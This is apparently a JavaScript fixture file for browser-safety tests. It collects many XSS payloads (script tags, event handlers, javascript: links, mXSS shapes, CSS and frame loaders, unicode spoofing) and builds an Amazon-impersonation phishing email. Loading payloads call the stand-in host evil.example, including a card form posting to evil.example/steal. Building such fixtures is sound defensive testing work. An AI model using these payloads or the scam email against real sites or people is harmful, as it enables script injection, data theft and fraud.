// Hostile message content for the browser-safety tests (safety.test.mjs): markup, script,
// event handlers, script and data links, CSS, mXSS shapes, unicode tricks and very long
// strings, each of which would run script, load something from another host or make a
// link clickable if the page ever put message text into HTML unescaped.
//
// Every script payload runs JS below, which trips all four detectors of the tests at once:
// it sets `top.__pwned`, changes document.title to PWNED, logs PWNED to the console and opens
// an alert. Every loading payload points at evil.example (or a subdomain), which the tests
// refuse and count.

/** The script every payload runs: sets every marker the tests look for. */
export const JS = "top.__pwned=(top.__pwned||0)+1;top.document.title='PWNED';console.log('PWNED');alert('PWNED')";

/** Hosts the payloads point at; a request to any of them means something loaded. */
export const EVIL_HOSTS = ['evil.example', 'tracker.evil.example'];

/** The scam around the payloads: it must still be called a scam, with the evidence marked. */
export const SCAM_LEAD =
  'Amazon Security Alert: your account is locked. Call 1-888-555-0199 now or verify at ' +
  'http://amazon-verify-login.top/x within 24 hours.';

/** Payload classes, each a list of strings pasted as they are. */
export const PAYLOADS = {
  script: [
    `<script>${JS}</script>`,
    `<SCRIPT SRC=http://evil.example/x.js></SCRIPT>`,
    `<script src="//evil.example/y.js"></script>`,
    `'"><script>${JS}</script>`,
    `<scr<script>ipt>${JS}</scr</script>ipt>`,
  ],
  handlers: [
    `<img src=x onerror="${JS}">`,
    `<img src="http://evil.example/x.png" onload="${JS}">`,
    `<body onload="${JS}">`,
    `<div onmouseover="${JS}" id="hover-me">hover over this</div>`,
    `<input autofocus onfocus="${JS}">`,
    `<button onfocus="${JS}" autofocus>Pay</button>`,
    `<details open ontoggle="${JS}"><summary>x</summary></details>`,
    `<video><source onerror="${JS}"></video>`,
    `<audio src=x onerror="${JS}">`,
    `<marquee onstart="${JS}">news</marquee>`,
    `<xss id=x tabindex=1 onfocusin="${JS}" style="animation-name:spin" onanimationstart="${JS}">`,
    `" onmouseover="${JS}" x="`,
    `' onfocus='${JS}' autofocus x='`,
  ],
  links: [
    `<a href="javascript:${JS}">verify your account</a>`,
    `<a href="JaVaScRiPt:${JS}">Cancel the hold</a>`,
    `<a href="  java\tscript:${JS}">Privacy</a>`,
    `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Open your invoice</a>`,
    `javascript:${JS}`,
    `javascript://https://www.amazon.com/%0a${encodeURIComponent(JS)}`,
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'http://evil.example/x.png',
    '//evil.example/protocol-relative',
    'https://tracker.evil.example/open?id=1',
    '<a href=//evil.example/a>https://www.amazon.com/gp/css/order-history</a>',
    '<area href="http://evil.example/area" shape=rect coords=0,0,99,99>',
    '[click here](javascript:alert(1)) and [here](http://evil.example/md)',
  ],
  svgMath: [
    `"><svg onload="${JS}">`,
    `<svg><script>${JS}</script></svg>`,
    `<svg><a xlink:href="javascript:${JS}"><text x=20 y=20>click</text></a></svg>`,
    `<svg><animate onbegin="${JS}" attributeName=x dur=1s>`,
    `<svg><image href="http://evil.example/s.png"/></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror="${JS}"></style></mglyph></table></mtext></math>`,
    `<math><mi xlink:href="javascript:${JS}">x</mi></math>`,
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${JS} src>">`,
    `<noscript><p title="</noscript><img src=x onerror=${JS}>">`,
    `<template><img src=x onerror="${JS}"></template>`,
    `<div><template shadowrootmode="open"><img src=x onerror="${JS}"></template></div>`,
    `<!--<img src="--><img src=x onerror=${JS}//">`,
    `<![CDATA[<script>${JS}</script>]]>`,
    `&lt;script&gt;${JS}&lt;/script&gt; &#60;img src=x onerror=${JS}&#62;`,
  ],
  frames: [
    `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
    '<iframe src="http://evil.example/frame"></iframe>',
    `<iframe src="javascript:${JS}"></iframe>`,
    '<object data="http://evil.example/x.swf"></object>',
    '<embed src="//evil.example/x.swf">',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    `<meta http-equiv="refresh" content="0;url=javascript:${JS}">`,
    '<base href="http://evil.example/">',
    '<link rel=stylesheet href=http://evil.example/x.css>',
    '<link rel=prefetch href=//evil.example/prefetch>',
    '<form action="http://evil.example/steal"><input name=card><button>Pay</button></form>',
    `<form><button formaction="javascript:${JS}">Go</button></form>`,
    '<isindex action=http://evil.example/ type=image src=//evil.example/i.png>',
  ],
  css: [
    '<style>@import url(http://evil.example/x.css); body{background:url(//evil.example/bg.png)}</style>',
    `</style><script>${JS}</script>`,
    `<p style="background:url(http://evil.example/p.png);width:expression(${JS})">styled</p>`,
    '<div style="behavior:url(http://evil.example/x.htc);-moz-binding:url(//evil.example/x.xml#xss)">',
    'url(http://evil.example/u.png) @import "http://evil.example/i.css";',
    '<img srcset="http://evil.example/1x.png 1x, //evil.example/2x.png 2x">',
    '<picture><source srcset="http://evil.example/p.webp"></picture>',
    '<table background="http://evil.example/t.png"><td background="//evil.example/td.png">',
  ],
  breakouts: [
    `</textarea><script>${JS}</script>`,
    `</pre><script>${JS}</script>`,
    `</mark><img src=x onerror=${JS}>`,
    `</title><script>${JS}</script>`,
    `</q><script>${JS}</script>`,
    `"></p><img src=x onerror=${JS}>`,
    '{{7*7}} ${alert(1)} {% raw %} <%= 7*7 %>',
  ],
  unicode: [
    'invoice\u202Egnp.exe',
    'your account is lo\u202Ecked, see http://amazon-verify-login.top/x\u202E\u2066gnp.exe',
    'amazon\u2066.com\u2069 \u2067evil\u2069 \u200F\u200Eamazon.com',
    '\u061Cpay\u061C now',
    'pay\u200Bpal zero\u200Dwidth \uFEFFbom',
    '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
    '\u003Cimg src=x onerror=alert(1)\u003E',
    'a\u0007bell a\u001Besc',
    '\u00ABscript\u00BB',
    'аmazon.com (Cyrillic a) xn--mazon-3ve.com',
  ],
};

/** Every payload in one list. */
export const ALL_PAYLOADS = Object.values(PAYLOADS).flat();

/** A very long line with payloads buried in it, and a very long link. */
export const LONG = [
  'A'.repeat(20_000) + `<img src=x onerror=${JS}>` + 'B'.repeat(20_000),
  'http://evil.example/' + 'a/'.repeat(3_000) + 'x.png',
  `${'<b>'.repeat(2_000)}deep${'</b>'.repeat(2_000)}`,
];

/** The pasted hostile message: the scam, every payload on its own line, the long strings. */
export function hostileMessage({ long = true } = {}) {
  return [SCAM_LEAD, '', ...ALL_PAYLOADS, ...(long ? LONG : []), '', SCAM_LEAD].join('\n');
}

/** Hostile things to type into the sender field. */
export const SENDERS = [
  `"><svg onload="${JS}">`,
  `javascript:${JS}`,
  `Amazon <script>${JS}</script> <alert@evil.example>`,
  '+1 (888) 555-0199\u202E',
];

/** An email with a hostile HTML body, a hostile subject, From name and attachment name. */
export function hostileEml() {
  const b64 = (s) => Buffer.from(s, 'utf8').toString('base64');
  const subject = `Your Amazon account is locked <img src=x onerror=${JS}> \u202Etxt.exe`;
  const html = `<!DOCTYPE html>
<html><head>
<base href="http://evil.example/">
<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">
<link rel="stylesheet" href="http://evil.example/x.css">
<style>@import url(http://evil.example/i.css); body { background: url(//evil.example/bg.png) }</style>
<script>${JS}</script>
<script src="http://evil.example/x.js"></script>
</head>
<body onload="${JS}" background="http://evil.example/body.png">
<p>Dear Customer,</p>
<p>Your Amazon account is locked because of unusual sign-in activity. Call our account team at
<b>1-888-555-0199</b> within 24 hours or your account will be closed.</p>
<p><a href="http://amazon-verify-login.top/login?c=1">https://www.amazon.com/your-account</a></p>
<p><a href="javascript:${JS}">Verify your account</a> |
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Open your invoice</a> |
<a href="  JaVaScRiPt&#58;alert(1)" onclick="${JS}">Cancel the hold</a> |
<a href="//evil.example/pr">//evil.example/pr</a></p>
<img src="http://evil.example/track.png" srcset="//evil.example/2x.png 2x" onerror="${JS}">
<p>&lt;script&gt;${JS}&lt;/script&gt; and &lt;img src=x onerror=&quot;${JS}&quot;&gt;</p>
<p>&amp;lt;b&amp;gt;double-escaped&amp;lt;/b&amp;gt; &lt;a href="javascript:alert(1)"&gt;text link&lt;/a&gt;</p>
<svg onload="${JS}"><script>${JS}</script><image href="http://evil.example/s.png"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror="${JS}"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=${JS}>"></noscript>
<template><img src=x onerror="${JS}"></template>
<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>
<iframe src="http://evil.example/frame"></iframe>
<object data="http://evil.example/x.swf"></object><embed src="//evil.example/e.swf">
<form action="http://evil.example/steal"><input name="card" autofocus onfocus="${JS}"><button formaction="javascript:${JS}">Pay</button></form>
<div style="background:url(http://evil.example/d.png);width:expression(${JS})" onmouseover="${JS}">hover</div>
<details open ontoggle="${JS}"><summary>more</summary>x</details>
<p>Amazon.com Customer Service</p>
</body></html>
`;
  const attachmentName = `"><img src=x onerror=${JS}>.html`;
  const eml = [
    'Return-Path: <alert@amazon-verify-login.top>',
    'Received: from amazon-verify-login.top (unknown [203.0.113.7])',
    '\tby mx.example.net with ESMTP id 1f2e3d; Tue, 1 Dec 2026 09:00:00 +0000',
    'Authentication-Results: mx.example.net; spf=fail smtp.mailfrom=amazon-verify-login.top; dkim=none; dmarc=fail header.from=amazon-verify-login.top',
    `From: =?utf-8?B?${b64(`Amazon <script>${JS}</script>`)}?= <alert@amazon-verify-login.top>`,
    'To: customer@example.net',
    `Subject: =?utf-8?B?${b64(subject)}?=`,
    'Date: Tue, 1 Dec 2026 09:00:00 +0000',
    'Message-ID: <hostile.1@amazon-verify-login.top>',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="outer"',
    '',
    '--outer',
    'Content-Type: multipart/alternative; boundary="alt"',
    '',
    '--alt',
    'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: base64',
    '',
    b64(html).replace(/.{76}/g, '$&\n'),
    '--alt--',
    '--outer',
    `Content-Type: text/html; name="=?utf-8?B?${b64(attachmentName)}?="`,
    `Content-Disposition: attachment; filename="=?utf-8?B?${b64(attachmentName)}?="`,
    'Content-Transfer-Encoding: base64',
    '',
    b64(`<html><body onload="${JS}"><script>${JS}</script><a href="javascript:${JS}">x</a></body></html>`),
    '--outer--',
    '',
  ].join('\r\n');
  return Buffer.from(eml, 'utf8');
}
